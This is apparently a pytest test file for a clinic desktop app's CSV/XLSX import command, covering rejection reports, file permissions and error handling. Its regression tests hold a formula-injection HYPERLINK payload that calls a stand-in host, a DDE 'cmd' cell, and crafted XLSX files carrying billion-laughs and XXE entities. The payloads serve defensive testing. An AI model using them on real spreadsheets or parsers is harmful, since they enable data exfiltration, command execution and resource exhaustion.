"""``carenet import csv|list|undo``: one line on errors, non-zero exit on rejections in all-or-nothing mode."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from carenet_desktop.cli import main

from .conftest import copy_store, count, write_csv


@pytest.fixture
def db(store_template: Path, tmp_path: Path) -> str:
    return str(copy_store(store_template, tmp_path / "cli.db"))


def test_import_csv_list_and_undo(db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = write_csv(tmp_path / "v.csv", ["MRN", "Visit Date", "CPT"], [["M001", "2024-01-02", "99392"]])
    assert main(["--db", db, "import", "csv", str(good), "--kind", "encounters"]) == 0
    assert "1 added" in capsys.readouterr().out
    assert main(["--db", db, "import", "list"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].startswith("id\t") and "\tencounters\tv.csv\tdone\t1\t0\t0" in out[1]
    import_id = out[1].split("\t")[0]
    assert main(["--db", db, "import", "undo", import_id]) == 0
    assert "1 rows deleted" in capsys.readouterr().out


def test_rejections_exit_non_zero_and_write_the_report(db: str, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    bad = write_csv(tmp_path / "v.csv", ["MRN", "Visit Date", "CPT"],
                    [["M001", "2024-01-02", "99392"], ["NOPE", "2024-01-02", "99392"]])
    report = tmp_path / "rej.csv"
    code = main(["--db", db, "import", "csv", str(bad), "--kind", "encounters", "--rejections", str(report)])
    err = capsys.readouterr().err
    assert code == 1 and "1 of 2 rows rejected; nothing imported" in err
    assert [ln for ln in err.splitlines() if ln.startswith("carenet: error")] == [err.splitlines()[-1]]
    assert pd.read_csv(report)["row"].tolist() == [3]
    code = main(["--db", db, "import", "csv", str(bad), "--kind", "encounters", "--valid-rows-only"])
    assert code == 0 and "1 added" in capsys.readouterr().out


def test_preview_writes_nothing(db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write_csv(tmp_path / "v.csv", ["Pat ID", "DOS", "CPT Code"], [["M001", "01/02/2024", "99392"]])
    assert main(["--db", db, "import", "csv", str(path), "--kind", "encounters", "--preview"]) == 0
    out = capsys.readouterr().out
    assert "date\tDOS\tus" in out and "1 row, 0 would be rejected" in out
    from carenet_desktop.models.database import open_database
    from carenet_desktop.services.context import ServiceContext

    assert count(ServiceContext(open_database(db)), "encounter") == 0


def test_errors_are_one_line(db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--db", db, "import", "csv", str(tmp_path / "missing.csv"), "--kind", "encounters"]) == 1
    assert capsys.readouterr().err.strip().count("\n") == 0
    path = write_csv(tmp_path / "v.csv", ["A", "B"], [["1", "2"]])
    assert main(["--db", db, "import", "csv", str(path), "--kind", "encounters"]) == 1
    assert "No column is mapped to" in capsys.readouterr().err
    assert main(["--db", db, "import", "undo", "999"]) == 1
    assert capsys.readouterr().err.strip() == "carenet: error: No import with id 999."


def test_the_rejection_report_is_private_and_runs_no_formula(db: str, tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 22, item 11: a rejected cell such as ``=HYPERLINK(...)`` was echoed raw, in a 0644 file."""
    import csv
    import stat

    bad = write_csv(tmp_path / "v.csv", ["MRN", "Visit Date", "CPT"],
                    [['=HYPERLINK("http://x.example/?"&A1,"click")', "2024-01-02", "99392"],
                     ["M001", "-2+3", "99392"], ["M001", "2024-01-02", "993\x0792"]])
    report = tmp_path / "rej.csv"
    assert main(["--db", db, "import", "csv", str(bad), "--kind", "encounters", "--rejections", str(report)]) == 1
    assert stat.S_IMODE(report.stat().st_mode) & 0o077 == 0
    with report.open(encoding="utf-8", newline="") as fh:
        values = [row["value"] for row in csv.DictReader(fh)]
    assert values and not any(v.startswith(("=", "+", "-", "@")) for v in values), values
    assert any(v.startswith("'=HYPERLINK") for v in values)
    assert not any("\x07" in v for v in values)


def test_a_control_character_rejects_its_row_only(db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 22, item 10: a NUL byte from a CSV was stored and broke the practice's Excel export."""
    import csv

    bad = write_csv(tmp_path / "v.csv", ["MRN", "Visit Date", "CPT"],
                    [["M001", "2024-01-02", "99392"], ["M001", "2024-01-03", "993\x0092"]])
    report = tmp_path / "rej.csv"
    assert main(["--db", db, "import", "csv", str(bad), "--kind", "encounters", "--valid-rows-only",
                 "--rejections", str(report)]) == 0
    assert "1 added" in capsys.readouterr().out
    with report.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["row"] for r in rows} == {"3"}
    assert "holds a control character (NUL or similar)" in [r["reason"] for r in rows]
    assert not any("\x00" in r["value"] for r in rows)


def test_writers_survive_control_characters_and_keep_exports_private(tmp_path: Path) -> None:
    import stat

    from openpyxl import load_workbook

    from carenet_desktop.reports.spreadsheets import write_table

    frame = pd.DataFrame({"name": ["Ann\x00Lee", "=cmd|' /C calc'!A0"], "n": [1, 2]})
    for suffix in (".xlsx", ".csv"):
        path = tmp_path / f"out{suffix}"
        write_table(frame, path)
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0
    cells = [c.value for c in load_workbook(tmp_path / "out.xlsx").active["A"]]
    assert cells[1] == "Ann?Lee" and str(cells[2]).startswith("'=")


@pytest.mark.parametrize("preview", [False, True])
@pytest.mark.parametrize("attack", ["billion-laughs", "xxe"])
def test_a_crafted_workbook_is_one_clear_line(db: str, tmp_path: Path, attack: str, preview: bool,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 22, item 12: an XLSX with an entity bomb or an external entity ended in a ParseError traceback."""
    import zipfile

    from openpyxl import Workbook

    plain = tmp_path / "plain.xlsx"
    wb = Workbook()
    wb.active.append(["MRN", "Visit Date", "CPT"])
    wb.active.append(["M001", "2024-01-02", "99392"])
    wb.save(plain)
    if attack == "billion-laughs":
        dtd = '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">' + "".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>"
        payload = "&i;"
    else:
        dtd = f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{tmp_path / "secret.txt"}">]>'
        (tmp_path / "secret.txt").write_text("secret")
        payload = "&x;"
    crafted = tmp_path / "crafted.xlsx"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(crafted, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                cells = [["MRN", "Visit Date", "CPT"], [payload, "2024-01-02", "99392"]]
                rows = "".join(f'<row r="{r}">' + "".join(
                    f'<c r="{"ABC"[i]}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(row)) + "</row>"
                    for r, row in enumerate(cells, start=1))
                data = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + dtd
                        + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                        + f"<sheetData>{rows}</sheetData></worksheet>").encode()
            dst.writestr(item, data)
    code = main(["--db", db, "import", "csv", str(crafted), "--kind", "encounters", *(["--preview"] if preview else [])])
    err = capsys.readouterr().err
    assert code in (1, 2) and "unexpected error" not in err and "Traceback" not in err
    assert err.strip().splitlines()[-1].startswith("carenet: error:")
    assert "secret" not in err


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_full_disk_leaves_no_half_written_export(tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 22, item 12: a disk full during an export left an empty or half file behind (and a traceback)."""
    import carenet_desktop.reports.spreadsheets as spreadsheets
    from carenet_desktop.services.context import ServiceError
    from carenet_desktop.services.gaps import EXPORT_HEADERS, write_worklist

    def full_disk(frame, path, **kw):  # type: ignore[no-untyped-def]
        path.write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(spreadsheets, "write_csv", full_disk)
    monkeypatch.setattr(spreadsheets, "write_xlsx", full_disk)
    target = tmp_path / f"gaps{suffix}"
    with pytest.raises(ServiceError, match="No space left"):
        write_worklist(pd.DataFrame(columns=list(EXPORT_HEADERS)), target)
    assert list(tmp_path.iterdir()) == []
